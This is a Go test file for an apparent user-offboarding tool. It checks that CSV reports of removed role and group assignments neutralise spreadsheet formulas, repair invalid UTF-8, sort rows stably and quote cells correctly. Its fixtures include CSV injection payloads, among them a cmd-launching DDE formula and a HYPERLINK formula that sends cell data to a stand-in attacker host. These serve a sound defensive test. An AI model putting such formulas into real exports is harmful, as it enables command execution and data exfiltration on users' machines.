package report

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/offboard/offboard/job"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

func TestNeutralize(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=SUM(A1:A2)", "'=SUM(A1:A2)"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@cmd", "'@cmd"},
		{"\tx", "'\tx"},
		{"\rx", "'\rx"},
		{"a=b", "a=b"},
		{" =x", " =x"},
		{"'=x", "'=x"},
		{"\nx", "\nx"},
	}
	for _, tc := range tests {
		if got := neutralize(tc.in); got != tc.want {
			t.Errorf("neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestValidUTF8(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Müller", "Müller"},
		{"M\xfcller", "M\uFFFDller"},
		{"\xff\xfe", "\uFFFD\uFFFD"},
	}
	for _, tc := range tests {
		if got := validUTF8(tc.in); got != tc.want {
			t.Errorf("validUTF8(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// reportItems covers sorting, every formula trigger in every neutralised
// column, ids that are left alone, and cells that need quoting.
func reportItems() []job.Item {
	at := time.Date(2025, 3, 14, 10, 0, 0, 123456789, time.FixedZone("CET", 3600))
	items := []job.Item{
		{PrincipalID: "b0000000-0000-0000-0000-000000000002", UPN: "=bob@contoso.example", Reference: "+HR-2",
			Source: "groups", Kind: job.KindGroupMember, AssignmentID: "g1", RoleName: "=cmd|' /C calc'!A0", Scope: "/", State: job.Failed,
			Detail: "-Authorization_RequestDenied: \"no\", says Graph", Attempts: 3, UpdatedAt: at},
		{PrincipalID: "b0000000-0000-0000-0000-000000000002", UPN: "@bob", Reference: "HR-2",
			Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "a9", RoleDefinitionID: "62e90394-69f5-4237-9190-012177145e10",
			RoleName: "Global Administrator", Scope: "/", State: job.Removed, Attempts: 1, UpdatedAt: at},
		{PrincipalID: "b0000000-0000-0000-0000-000000000002", Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "a10",
			Scope: "/administrativeUnits/x", State: job.Skipped, Detail: "\tprotected", UpdatedAt: at},
		{PrincipalID: "a0000000-0000-0000-0000-000000000001", Reference: "line one\nline two", State: job.NoAssignments,
			Detail: "\rcr", UpdatedAt: at},
		{PrincipalID: "=HYPERLINK(\"x\")", State: job.Invalid, Line: 4, Detail: "line 4: bad GUID", UpdatedAt: at},
		{PrincipalID: "", State: job.Invalid, Line: 9, Detail: "line 9: neither principal_id nor user_principal_name", UpdatedAt: at},
		{PrincipalID: "", State: job.Invalid, Line: 3, Reference: "-3", Detail: "line 3: bad date", UpdatedAt: at},
		// An assignment id the services hand out is written as it is;
		// its role definition id and scope are neutralised (issue 24).
		{PrincipalID: "c0000000-0000-0000-0000-000000000003", Source: "azure", Kind: job.KindAzureRole,
			AssignmentID:     "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
			RoleDefinitionID: "+/providers/x", Scope: "=/subscriptions/s", State: job.Planned, Detail: "M\xfcller"},
		// A refused row as the planner puts it: every cell from the
		// service neutralised.
		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "directory", Kind: job.KindDirectoryRole, AssignmentID: "=cmd|' /C calc'!A0",
			RoleDefinitionID: "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", Scope: "=1+2",
			State: job.Failed, Detail: job.UnexpectedID, UpdatedAt: at},
		{PrincipalID: "f0000000-0000-0000-0000-000000000006", Source: "groups", Kind: job.KindGroupMember, AssignmentID: "0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
			RoleDefinitionID: "@SUM(1)", Scope: "\t/x", State: job.Failed, Detail: "=group name from Graph", UpdatedAt: at},
		{PrincipalID: "d0000000-0000-0000-0000-000000000004", UPN: "dee@contoso.example", Source: "pim", Kind: job.KindDirectoryRoleEligibility,
			AssignmentID: "e1", State: job.AlreadyAbsent, Detail: "confirmed absent on rerun", Attempts: 0, UpdatedAt: at},
		{PrincipalID: "e0000000-0000-0000-0000-000000000005", State: job.Deferred, Line: 12, Detail: "effective 2099-01-01", UpdatedAt: at},
	}
	return items
}

func writeReport(t *testing.T, items []job.Item) []byte {
	t.Helper()
	dir := t.TempDir()
	d := mustOpen(t, dir, inputA, runInfo("r", false))
	defer mustClose(t, d)
	if err := d.WriteReport(items); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(dir, reportName))
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func TestWriteReportGolden(t *testing.T) {
	items := reportItems()
	orig := slices.Clone(items)
	got := writeReport(t, items)
	if !slices.EqualFunc(items, orig, func(a, b job.Item) bool { return a.Key() == b.Key() }) {
		t.Error("WriteReport reordered its argument")
	}
	golden := filepath.Join("testdata", "report.csv")
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("report.csv:\n%s\nwant (%s):\n%s", got, golden, want)
	}
}

func TestWriteReportShape(t *testing.T) {
	got := writeReport(t, reportItems())
	const head = "principal_id,user_principal_name,reference,source,kind,assignment_id,role_definition_id,role_name,scope,status,detail,attempts,updated_at\n"
	if !strings.HasPrefix(string(got), head) {
		t.Fatalf("report.csv does not start with the contract's header: %q", got)
	}
	if bytes.Contains(got, []byte("\r\n")) {
		t.Error("report.csv has CRLF line endings")
	}
	rows, err := csv.NewReader(bytes.NewReader(got)).ReadAll()
	if err != nil {
		t.Fatalf("report.csv does not read back as CSV: %v", err)
	}
	names := rows[0]
	col := func(name string) int { return slices.Index(names, name) }
	rows = rows[1:]
	if len(rows) != len(reportItems()) {
		t.Fatalf("%d rows, want %d", len(rows), len(reportItems()))
	}
	// Sorted by principal_id, source, assignment_id, then input line.
	var order []string
	for _, r := range rows {
		order = append(order, r[0]+"|"+r[col("source")]+"|"+r[col("assignment_id")])
	}
	wantOrder := []string{
		"||", "||", // invalid rows without an id: line 3, then line 9
		"'=HYPERLINK(\"x\")||",
		"a0000000-0000-0000-0000-000000000001||",
		"b0000000-0000-0000-0000-000000000002|directory|a10",
		"b0000000-0000-0000-0000-000000000002|directory|a9",
		"b0000000-0000-0000-0000-000000000002|groups|g1",
		"c0000000-0000-0000-0000-000000000003|azure|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r",
		"d0000000-0000-0000-0000-000000000004|pim|e1",
		"e0000000-0000-0000-0000-000000000005||",
		"f0000000-0000-0000-0000-000000000006|directory|'=cmd|' /C calc'!A0",
		"f0000000-0000-0000-0000-000000000006|groups|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f",
	}
	if !slices.Equal(order, wantOrder) {
		t.Errorf("row order:\n%q\nwant\n%q", order, wantOrder)
	}
	if rows[0][col("detail")] != "line 3: bad date" || rows[0][2] != "'-3" {
		t.Errorf("first invalid row = %q", rows[0])
	}
	byID := map[string][]string{}
	for _, r := range rows {
		byID[r[0]+"|"+r[col("assignment_id")]] = r
	}
	checks := []struct {
		row      string
		col      string
		want     string
		whatItIs string
	}{
		{"b0000000-0000-0000-0000-000000000002|g1", "user_principal_name", "'=bob@contoso.example", "upn ="},
		{"b0000000-0000-0000-0000-000000000002|g1", "reference", "'+HR-2", "reference +"},
		{"b0000000-0000-0000-0000-000000000002|g1", "detail", "'-Authorization_RequestDenied: \"no\", says Graph", "detail - with quotes and comma"},
		{"b0000000-0000-0000-0000-000000000002|g1", "attempts", "3", "attempts"},
		{"b0000000-0000-0000-0000-000000000002|g1", "updated_at", "2025-03-14T09:00:00Z", "updated_at in UTC, seconds"},
		{"b0000000-0000-0000-0000-000000000002|a9", "user_principal_name", "'@bob", "upn @"},
		{"b0000000-0000-0000-0000-000000000002|a10", "detail", "'\tprotected", "detail tab"},
		{"a0000000-0000-0000-0000-000000000001|", "detail", "'\rcr", "detail CR"},
		{"a0000000-0000-0000-0000-000000000001|", "reference", "line one\nline two", "reference with a newline"},
		{"'=HYPERLINK(\"x\")|", "status", "invalid", "invalid row's id neutralised"},
		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "assignment_id", "-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "a checked assignment id as it is"},
		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "role_definition_id", "'+/providers/x", "role definition id neutralised"},
		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "scope", "'=/subscriptions/s", "scope neutralised"},
		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "assignment_id", "'=cmd|' /C calc'!A0", "refused assignment id"},
		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "role_definition_id", "'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "refused role definition id"},
		{"f0000000-0000-0000-0000-000000000006|'=cmd|' /C calc'!A0", "scope", "'=1+2", "refused directory scope id"},
		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "role_definition_id", "'@SUM(1)", "role definition id @"},
		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "scope", "'\t/x", "scope tab"},
		{"f0000000-0000-0000-0000-000000000006|0f2c7d6e-1b4a-4c3e-9d8f-1a2b3c4d5e6f", "detail", "'=group name from Graph", "detail from a service"},
		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "updated_at", "", "zero time"},
		{"c0000000-0000-0000-0000-000000000003|-/subscriptions/s/providers/Microsoft.Authorization/roleAssignments/r", "detail", "M\uFFFDller", "invalid UTF-8 replaced"},
		{"d0000000-0000-0000-0000-000000000004|e1", "attempts", "0", "zero attempts"},
		{"b0000000-0000-0000-0000-000000000002|a9", "kind", "directory-role", "kind"},
		{"b0000000-0000-0000-0000-000000000002|a9", "role_name", "Global Administrator", "role name"},
		{"b0000000-0000-0000-0000-000000000002|g1", "role_name", "'=cmd|' /C calc'!A0", "a group's name from the service, neutralised"},
	}
	for _, c := range checks {
		r, ok := byID[c.row]
		if !ok {
			t.Errorf("no row %q", c.row)
			continue
		}
		if r[col(c.col)] != c.want {
			t.Errorf("%s: cell %s = %q, want %q", c.whatItIs, c.col, r[col(c.col)], c.want)
		}
	}
	// Quoted cells are written the RFC 4180 way.
	for _, frag := range []string{
		`"'-Authorization_RequestDenied: ""no"", says Graph"`,
		"\"line one\nline two\"",
		"\"'\rcr\"",
	} {
		if !bytes.Contains(got, []byte(frag)) {
			t.Errorf("report.csv lacks %q", frag)
		}
	}
}

func TestWriteReportOrderIndependent(t *testing.T) {
	items := reportItems()
	// Two rows job.Less cannot tell apart must not show the input order.
	twin := items[1]
	twin.Detail = "another detail"
	items = append(items, twin)
	want := writeReport(t, items)
	perms := [][]job.Item{reversed(items), rotated(items, 3), rotated(reversed(items), 5)}
	for i, p := range perms {
		if got := writeReport(t, p); !bytes.Equal(got, want) {
			t.Errorf("permutation %d: report.csv differs:\n%s\nwant\n%s", i, got, want)
		}
	}
}

func reversed(items []job.Item) []job.Item {
	out := slices.Clone(items)
	slices.Reverse(out)
	return out
}

func rotated(items []job.Item, n int) []job.Item {
	return append(slices.Clone(items[n:]), items[:n]...)
}

// TestReportStableAcrossRuns is the contract's idempotence at this level:
// items written, journaled, read back by the next run and written again give
// the same bytes.
func TestReportStableAcrossRuns(t *testing.T) {
	dir := t.TempDir()
	items := reportItems()
	d := mustOpen(t, dir, inputA, runInfo("run-1", false))
	if err := d.Plan(slices.Values(items)); err != nil {
		t.Fatal(err)
	}
	if err := d.WriteReport(items); err != nil {
		t.Fatal(err)
	}
	mustClose(t, d)
	first, err := os.ReadFile(filepath.Join(dir, reportName))
	if err != nil {
		t.Fatal(err)
	}
	d = mustOpen(t, dir, inputA, runInfo("run-2", false))
	if err := d.WriteReport(d.Previous()); err != nil {
		t.Fatal(err)
	}
	mustClose(t, d)
	second, err := os.ReadFile(filepath.Join(dir, reportName))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(first, second) {
		t.Errorf("report.csv changed across runs:\n%s\nthen\n%s", first, second)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if strings.HasSuffix(e.Name(), ".tmp") {
			t.Errorf("temporary file %s left behind", e.Name())
		}
	}
	fi, err := os.Stat(filepath.Join(dir, reportName))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode().Perm() != filePerm {
		t.Errorf("report.csv mode %v, want %v", fi.Mode().Perm(), os.FileMode(filePerm))
	}
}
